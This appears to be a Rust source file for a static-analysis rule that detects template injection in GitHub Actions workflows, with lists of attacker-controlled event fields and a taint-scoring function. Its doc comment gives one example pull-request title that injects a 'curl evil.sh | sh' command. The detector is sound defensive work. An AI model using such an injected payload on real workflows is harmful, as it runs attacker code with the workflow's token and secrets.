use super::{expressions, references, span_in, steps};
use crate::rule::{Check, File, Hit};
use vibeguard_core::Severity;

crate::config_rule! {
    /// ## What it does
    /// Flags `${{ ... }}` expressions that put attacker-controlled text into code: in
    /// `run:` scripts and in script inputs such as `actions/github-script`'s `script`.
    /// Titles, bodies, branch names, commit messages and comments from issues, pull
    /// requests, discussions and pushes are attacker-controlled (high); other
    /// `github.event` fields medium; `inputs`, step outputs and `env` low.
    ///
    /// ## Why is this bad?
    /// The expression is pasted into the script before the shell runs it: a pull request
    /// titled `"; curl evil.sh | sh; echo "` runs with the workflow's token and secrets
    /// (CWE-94, CWE-78).
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Title: ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    /// - run: echo "Title: $TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.pull_request.title }}
    /// ```
    TemplateInjection {
        id: "actions/template-injection",
        title: "Untrusted input expanded into a script",
        cwe: [94, 78],
        severity: High,
        confidence: High,
        kinds: [Workflow, Action],
        message: "an expression with untrusted input is pasted into a script: pass it through an environment variable",
    }
}

/// Fields an outside contributor controls.
const ATTACKER: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.pull_request.head.repo.description",
    "github.event.pull_request.head.repo.homepage",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.name",
    "github.event.commits.*.author.email",
    "github.event.head_commit.message",
    "github.event.head_commit.author.name",
    "github.event.head_commit.author.email",
    "github.event.head_commit.committer.name",
    "github.event.head_commit.committer.email",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.pull_requests.*.head.ref",
    "github.event.check_suite.head_branch",
    "github.event.check_run.check_suite.head_branch",
    "github.head_ref",
    "github.event.release.name",
    "github.event.release.body",
    "github.event.release.tag_name",
    "github.event.ref",
    "github.ref_name",
];

/// `github.event` fields that are numbers, ids, SHAs or set by GitHub.
const SAFE_EVENT: &[&str] = &[
    "number",
    "id",
    "sha",
    "head.sha",
    "base.sha",
    "base.ref",
    "merged",
    "draft",
    "action",
    "node_id",
    "html_url",
    "url",
    "state",
    "created_at",
    "updated_at",
    "repository",
    "sender.id",
    "sender.type",
    "installation.id",
    "organization",
    "before",
    "after",
    "forced",
    "deleted",
    "created",
    "run_id",
    "run_number",
    "head_sha",
    "conclusion",
    "status",
    "workflow_run.id",
    "workflow_run.conclusion",
    "workflow_run.event",
    "label.name",
    "pull_request.user.id",
    "pull_request.author_association",
    "comment.author_association",
    "issue.author_association",
    "inputs",
];

/// How attacker-controlled a context reference is.
pub fn taint(reference: &str) -> Option<Severity> {
    let r = reference.trim_start_matches("${{").trim();
    if ATTACKER.iter().any(|a| {
        r == *a
            || r.starts_with(&format!("{a}."))
            || a.ends_with(".*") && r.starts_with(a.trim_end_matches('*'))
    }) {
        return Some(Severity::High);
    }
    if let Some(rest) = r.strip_prefix("github.event.") {
        if rest.starts_with("inputs.") || rest == "inputs" {
            return Some(Severity::Low);
        }
        let safe = SAFE_EVENT.iter().any(|s| {
            rest == *s
                || rest.ends_with(&format!(".{s}"))
                || rest.starts_with(&format!("{s}."))
                || rest.ends_with(".number")
                || rest.ends_with("_id")
                || rest.ends_with(".sha")
        });
        return (!safe).then_some(Severity::Medium);
    }
    if r.starts_with("inputs.")
        || r.starts_with("steps.") && r.contains(".outputs.")
        || r.starts_with("needs.") && r.contains(".outputs.")
    {
        return Some(Severity::Low);
    }
    None
}

/// Script inputs of well-known actions that run their value as code.
const SCRIPT_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("azure/cli", "inlinescript"),
    ("azure/powershell", "inlinescript"),
    ("appleboy/ssh-action", "script"),
];

impl Check for TemplateInjection {
    fn run(&self, f: &File<'_>, out: &mut Vec<Hit>) {
        for step in steps(f) {
            let mut scripts = Vec::new();
            if let Some(r) = step.run() {
                scripts.push(r);
            }
            if let Some(name) = step.action_name() {
                for (action, input) in SCRIPT_INPUTS {
                    if name != *action {
                        continue;
                    }
                    let with = step.node.get("with").map(|w| w.entries()).unwrap_or(&[]);
                    if let Some(e) = with.iter().find(|e| e.key.eq_ignore_ascii_case(input)) {
                        scripts.push(&e.value);
                    }
                }
            }
            for script in scripts {
                let Some(text) = script.text() else { continue };
                for (range, expr) in expressions(text) {
                    let worst = references(expr)
                        .iter()
                        .filter_map(|r| taint(r).map(|s| (s, r.clone())))
                        .max_by_key(|(s, _)| *s);
                    let Some((sev, reference)) = worst else {
                        continue;
                    };
                    let whole = &text[range.clone()];
                    out.push(
                        Hit::at(span_in(f, script, whole))
                            .severity(sev)
                            .message(format!(
                                "`{reference}` is pasted into the script before it runs: pass it through an `env:` variable and quote it (\"$VAR\")"
                            )),
                    );
                }
            }
        }
    }
}
